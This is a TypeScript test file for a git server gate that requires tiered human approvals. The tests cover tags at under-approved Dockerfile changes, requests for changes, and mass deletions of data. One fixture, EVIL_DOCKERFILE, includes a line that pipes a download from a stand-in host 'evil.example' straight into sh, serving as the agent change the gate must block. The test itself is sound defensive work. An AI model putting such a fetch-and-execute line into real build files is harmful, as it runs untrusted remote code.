import * as assert from 'assert';
import { recordDecision } from '../helpers/approvals';
import { verifyThenPush, withoutGate } from '../helpers/gateAgreement';
import { commitFile, setup, type Setup } from '../helpers/gateServer';
import { passes, refused } from '../helpers/refVerdicts';

/**
 * Issue 10, "one rule, one place": the reviewed point (src/git/reviewedPoint.ts) — where the deletion tiers start
 * counting, and the vouched states a tag at an older commit is judged from (vouchedState.ts, K3) — was decided by
 * a second copy of "does an approval count": one valid approval of a tip made it a point, whatever the tier of
 * what it approved needed, and only rejections on that very tip were read. It now asks the gate itself: a tip is a
 * point when the gate passes its statement's span (base..tip) with the approvals known (src/git/vouchedTip.ts).
 */
describe('server gate: an under-approved tip is no reviewed point (real pushes)', function () {
  this.timeout(240_000);

  const HUMAN = (n: number) => `AI-Provenance: v1 ai=0 human=${n} untracked=0`;
  const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=1 human=0 untracked=0';
  const DATA = (n: number) => Array.from({ length: n }, (_, i) => `row ${i}`).join('\n') + '\n';
  const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
  const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';
  const EARLIER = new Date(Date.now() - 3_600_000).toISOString();

  function pushNotes(s: Setup): void {
    assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
  }

  function shrink(s: Setup, to: number, message: string): string {
    return commitFile(s.ada, 'data.txt', DATA(to), `${message}\n\n${HUMAN(0)}`);
  }

  it('a tag at a Dockerfile change one reviewer approved (the tier needs two) is refused; two approvals release it', () => {
    const s = setup();
    const { ada } = s;
    const start = ada.git('rev-parse', 'HEAD');
    // T: an agent's Dockerfile with a `curl | sh`; Bob alone approved it (the infrastructure tier needs two).
    const t = commitFile(ada, 'Dockerfile', EVIL_DOCKERFILE, `agent: container\n\n${AI}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: t, base: start, time: EARLIER });
    // U: the reviewed fix. Bob and Carol approve start..U, which lands; T is on main only as a step toward U.
    const u = commitFile(ada, 'Dockerfile', SAFE_DOCKERFILE, `safe container\n\n${HUMAN(2)}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: u, base: start });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: u, base: start });
    pushNotes(s);
    passes(s, u, 'refs/heads/main');
    // Before the fix T was a reviewed point (one valid approval of a tip), so these were free.
    refused(s, t, 'refs/tags/v1.0', /tier 'infrastructure'.*|has 1 of 2 required approval/);
    refused(s, t, 'refs/heads/release/1.0', /has 1 of 2 required approval/);
    for (const ref of ['refs/tags/v1.0', 'refs/heads/release/1.0'])
      assert.strictEqual(s.server.gitResult(['rev-parse', '-q', '--verify', ref]).status, 1);
    // Honest: the tier's second approval of T makes it a state the gate vouches for.
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: t, base: start });
    pushNotes(s);
    passes(s, t, 'refs/tags/v1.0');
  });

  it('a tag at a tip whose approval a later request for changes on a range holding it voids is refused', () => {
    const s = setup();
    const { ada } = s;
    const start = ada.git('rev-parse', 'HEAD');
    // P: approved by Bob, lands (AI, one approval needed).
    const p = commitFile(ada, 'agent.py', 'print(1)\n', `agent: script\n\n${AI}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: p, base: start, time: EARLIER });
    pushNotes(s);
    passes(s, p, 'refs/heads/main');
    const q = commitFile(ada, 'README.md', 'hello, world\n', `readme\n\n${HUMAN(1)}`);
    passes(s, q, 'refs/heads/main');
    // Carol requests changes on start..T2, a pull request that holds P: her request holds P (statementStanding.ts).
    ada.git('checkout', '-q', '-b', 'feature', p);
    const t2 = commitFile(ada, 'agent.py', 'print(1)\nprint(2)\n', `agent: more\n\n${AI}`);
    assert.strictEqual(ada.gitResult(['push', '-q', '--no-verify', 'origin', 'feature']).status, 0);
    recordDecision(ada, s.carol, {
      email: 'carol@example.com',
      tip: t2,
      base: start,
      decision: 'reject',
      comment: 'no',
    });
    pushNotes(s);
    ada.git('checkout', '-q', 'main');
    refused(s, p, 'refs/tags/v1.0', /requested changes/);
  });

  describe('the mass-deletion count', () => {
    /** main with data.txt (1,200 lines), pushed through the gate (human, needs no review). */
    function withData(): Setup {
      const s = setup();
      commitFile(s.ada, 'data.txt', DATA(1200), `add data\n\n${HUMAN(1200)}`);
      assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0);
      return s;
    }

    it('a 600-line deletion one reviewer approved (the tier needs two), planted past the gate, does not restart it', () => {
      const s = withData();
      const base = s.ada.git('rev-parse', 'HEAD');
      const p = shrink(s, 600, 'remove the legacy half');
      recordDecision(s.ada, s.bob, { email: 'bob@example.com', tip: p, base });
      pushNotes(s);
      const gated = verifyThenPush(s.ada, 'main', ['origin', 'main']);
      assert.notStrictEqual(gated.status, 0, 'one approval of a mass deletion');
      assert.match(gated.stderr, /has 1 of 2 required approval/);
      // An administrator's import (or history from before the server's hook) puts it on main anyway.
      withoutGate(s.server, () => assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
      shrink(s, 599, 'drop one more line');
      const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
      assert.notStrictEqual(r.status, 0, 'the under-approved deletion was taken as reviewed: one more line landed');
      assert.match(r.stderr, /tier 'mass-deletion': this push and the \d+ unreviewed commit\(s\) on main/);
      assert.match(r.stderr, /delete 601 lines/);
      // The tier's second approval of the deletion makes it the point: the one-line deletion is ordinary again.
      recordDecision(s.ada, s.carol, { email: 'carol@example.com', tip: p, base });
      pushNotes(s);
      assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0);
    });

    it('a tip held by a later request for changes on a range that holds it does not restart it', () => {
      const s = withData();
      const base = s.ada.git('rev-parse', 'HEAD');
      const p = shrink(s, 750, 'trim data (1/2)');
      recordDecision(s.ada, s.bob, { email: 'bob@example.com', tip: p, base, time: EARLIER });
      pushNotes(s);
      assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'a 450-line deletion alone');
      // Carol requests changes on base..T2, which holds P.
      s.ada.git('checkout', '-q', '-b', 'feature', p);
      const t2 = shrink(s, 740, 'trim more');
      assert.strictEqual(s.ada.gitResult(['push', '-q', '--no-verify', 'origin', 'feature']).status, 0);
      recordDecision(s.ada, s.carol, { email: 'carol@example.com', tip: t2, base, decision: 'reject', comment: 'no' });
      pushNotes(s);
      s.ada.git('checkout', '-q', 'main');
      shrink(s, 300, 'trim data (2/2)');
      const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
      assert.notStrictEqual(r.status, 0, 'the second 450 lines landed: P counted as reviewed despite the request');
      assert.match(r.stderr, /delete 900 lines/);
    });
  });
});
